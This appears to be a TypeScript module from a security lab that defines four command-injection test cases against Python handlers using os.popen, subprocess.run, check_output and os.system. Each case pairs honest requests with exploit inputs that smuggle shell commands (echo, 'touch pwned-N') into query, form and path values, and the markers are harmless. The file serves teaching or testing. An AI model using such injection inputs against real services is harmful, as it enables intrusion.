import type { LabModule } from '../../labModule';

export const lab: LabModule = {
  cases: [
    {
      name: 'os.popen with an f-string',
      honest: [{ to: '/echo?word=tea', shows: 'tea' }, { to: '/echo' }],
      exploit: [{ to: '/echo', query: { word: 'x; echo $((6 * 7))' } }],
      proof: { body: /^42$/m },
    },
    {
      name: 'subprocess.run, a value in quotes',
      honest: [{ to: 'POST /count', form: { name: 'Ann Lee' }, shows: '7' }],
      exploit: [{ to: 'POST /count', form: { name: "'; touch pwned-1; '" } }],
      proof: { file: 'pwned-1' },
    },
    {
      name: 'subprocess.check_output, percent',
      honest: [{ to: '/list?folder=/etc', shows: '/etc' }],
      exploit: [{ to: '/list', query: { folder: '/ | touch pwned-2' } }],
      proof: { file: 'pwned-2' },
    },
    {
      name: 'os.system with a part of the address',
      honest: [{ to: '/touch/word', shows: '0' }],
      exploit: [{ to: '/touch/x%60touch%20pwned-3%60' }],
      proof: { file: 'pwned-3' },
    },
  ],
};
